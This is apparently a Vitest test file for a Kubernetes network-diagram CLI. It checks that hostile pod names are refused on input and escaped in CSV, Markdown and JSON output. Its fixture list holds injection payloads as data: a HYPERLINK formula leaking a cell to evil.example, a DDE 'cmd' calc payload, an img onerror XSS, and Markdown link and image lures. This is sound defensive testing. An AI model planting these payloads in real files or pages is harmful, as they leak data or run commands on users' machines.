import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { main } from '@netdiagram/cli';
import { buildTrafficGraph, parseManifests } from '@netdiagram/core';
import { describe, expect, it } from 'vitest';
import { renderConnections } from '../../packages/cli/src/commands/connections.js';
import { placeholder, withHostileText } from '../support/hostile.js';
import { fakeIo, tempDir } from './support.js';

// Object names like these are refused on input, as the API server refuses them (k8s/invalid-name).
// Every output format must still carry such text without being subverted: the pods below are named
// with placeholders, and the hostile names swapped into the parsed model before formatting.
const hostileNames = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  'pipe|in|name',
  '`tick`',
  '<img src=x onerror=alert(1)>',
  '[click](http://evil.example)',
  '![pixel](http://evil.example/p.png)',
  '**bold** _em_ ~strike~',
  'back\\slash|',
  'line\nbreak',
];

/** One pod per hostile name, named so and in a namespace so named; with no policies every pod reaches every other. */
function hostilePods(names: (i: number) => string): string {
  return hostileNames.map((_, i) => JSON.stringify({
    apiVersion: 'v1', kind: 'Pod', metadata: { name: names(i), namespace: names(i) }, spec: { containers: [{ name: 'c' }] },
  })).join('\n---\n');
}

async function connections(format: 'csv' | 'md' | 'json'): Promise<string> {
  const parsed = parseManifests([{ name: 'pods.yaml', text: hostilePods(placeholder) }]);
  expect(parsed.diagnostics).toEqual([]);
  return renderConnections(buildTrafficGraph(withHostileText(parsed.cluster, hostileNames)), format);
}

/** RFC 4180: rows of cells; quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  return rows;
}

describe('output built from hostile object names', () => {
  it('refuses the names on input, each at its position, and prints them escaped', async () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'pods.yaml'), hostilePods((i) => hostileNames[i]!));
    const io = fakeIo(dir);
    expect(await main(['connections', 'pods.yaml'], io)).toBe(2);
    const lines = io.err.split('\n').filter((l) => / error /.test(l));
    expect(lines.filter((l) => l.includes('error k8s/invalid-name: Pod name'))).toHaveLength(hostileNames.length);
    expect(io.err).not.toContain('line\nbreak');
    expect(io.out).toBe('');
  });

  it('CSV: every row keeps four cells, and no cell starts like a spreadsheet formula', async () => {
    const rows = parseCsv(await connections('csv'));
    expect(rows[0]).toEqual(['from', 'to', 'ports', 'via']);
    expect(rows.length).toBeGreaterThan(hostileNames.length);
    for (const row of rows) {
      expect(row).toHaveLength(4);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    // every id survives whole, behind the apostrophe that makes a spreadsheet show it as text, its line break shown as \u000a
    const cells = new Set(rows.flat());
    for (const name of hostileNames) {
      const id = `${name}/${name}[Pod]`.replace(/\n/g, '\\u000a');
      expect(cells.has(id) || cells.has(`'${id}`), id).toBe(true);
    }
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"click")/=HYPERLINK("http://evil.example/?leak="&A1,"click")[Pod]`);
  });

  it('Markdown: every row keeps four cells, with no raw HTML, links, images or code spans', async () => {
    const text = await connections('md');
    const rows = text.trimEnd().split('\n');
    expect(rows.length).toBeGreaterThan(hostileNames.length);
    for (const row of rows) {
      // cells are split at pipes not escaped by a backslash (itself not escaped)
      const cells = row.split(/(?<!(?:^|[^\\])(?:\\\\)*\\)\|/);
      expect(cells, row).toHaveLength(6);
      expect(row).not.toMatch(/<|>/);
      expect(row).not.toMatch(/\]\(/);
      expect(row).not.toMatch(/(?<!\\)`/);
      expect(row).not.toMatch(/(?<!\\)[*_~]/);
    }
    expect(text).toContain('&lt;img src=x onerror=alert(1)&gt;/&lt;img src=x onerror=alert(1)&gt;[Pod]');
    expect(text).toContain('back\\\\slash\\|/back\\\\slash\\|[Pod]');
    expect(text).toContain('line break/line break[Pod]');
    expect(text).toContain('[click]\\(http:\u200d//evil.example)/');
  });

  it('JSON: the names come back exactly, whatever they contain', async () => {
    const json = JSON.parse(await connections('json')) as { endpoints: { name?: string; type: string }[] };
    const names = json.endpoints.filter((e) => e.type === 'workload').map((e) => e.name).sort();
    expect(names).toEqual([...hostileNames].sort());
  });
});
